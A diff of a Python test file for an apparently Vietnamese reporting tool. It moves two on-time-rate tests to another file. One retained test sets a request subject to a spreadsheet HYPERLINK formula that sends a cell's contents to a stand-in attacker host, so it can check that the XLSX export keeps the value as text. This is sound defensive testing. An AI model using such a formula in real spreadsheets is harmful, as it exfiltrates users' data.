@@ -1,4 +1,4 @@
-"""The compiled table, its XLSX, the compiled report and the on-time rate."""
+"""The compiled table, its XLSX and the compiled report (the on-time rate: test_compliance.py)."""
 
 import datetime as dt
 import io
@@ -308,21 +308,6 @@ def test_a_text_contradicting_its_accepted_figure_is_flagged_before_compiling(cl
     assert "«Hiện nay, Trường có 120 lưu học sinh Lào đang học tập.»" in page
 
 
-def test_on_time_rate_per_unit_over_twelve_months(outgoing, units):
-    old = outgoing(deadline=dt.date(2020, 6, 1))  # more than 12 months before: not counted
-    answer(old, units["vp"], "accepted", {}, submitted=dt.datetime(2020, 7, 1))
-    first = outgoing(deadline=dt.date(2021, 3, 10))
-    answer(first, units["vp"], "accepted", {}, submitted=dt.datetime(2021, 3, 9))
-    answer(first, units["dh"], "accepted", {}, submitted=dt.datetime(2021, 3, 15))
-    second = outgoing(deadline=dt.date(2021, 8, 10))
-    answer(second, units["vp"], "submitted", {}, submitted=dt.datetime(2021, 8, 10, 16))
-    outgoing(deadline=dt.date(2021, 10, 10))  # not yet due
-    rows = {r["unit"].code: r for r in compilation.compliance(dt.date(2021, 9, 1))}
-    assert (rows["VP"]["total"], rows["VP"]["on_time"], rows["VP"]["rate"]) == (2, 2, 100)
-    university = rows["DHPVD"]
-    assert (university["total"], university["on_time"], university["late"], university["rate"]) == (2, 0, 2, 0)
-
-
 def test_a_formula_typed_as_a_subject_stays_text_in_the_xlsx(outgoing):
     request = outgoing()
     request.subject = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
@@ -364,17 +349,6 @@ def test_a_compilation_without_every_answer_says_which_units_its_figures_leave_o
     )
     answer(request, units["dh"], "accepted", {})
     assert compilation.coverage_note(compilation.answers_of(request)) == ""
-
-
-def test_an_answer_returned_after_being_sent_in_time_counts_on_time_once_sent_again(outgoing, units):
-    request = outgoing(deadline=dt.date(2021, 8, 10))
-    answer(request, units["vp"], "submitted", {}, submitted=dt.datetime(2021, 8, 9, 9))
-    answer(request, units["vp"], "returned", {}, submitted=dt.datetime(2021, 8, 9, 9))  # not sent again yet
-    rows = {r["unit"].code: r for r in compilation.compliance(dt.date(2021, 9, 1))}
-    assert (rows["VP"]["on_time"], rows["VP"]["late"]) == (0, 1)  # no answer to compile, past the deadline
-    answer(request, units["vp"], "submitted", {}, submitted=dt.datetime(2021, 8, 20, 9))  # sent again, late
-    rows = {r["unit"].code: r for r in compilation.compliance(dt.date(2021, 9, 1))}
-    assert (rows["VP"]["on_time"], rows["VP"]["late"]) == (1, 0)  # judged by its first sending
 
 
 def test_the_table_sets_the_registers_figure_beside_the_answers_total(outgoing, units, client_for):
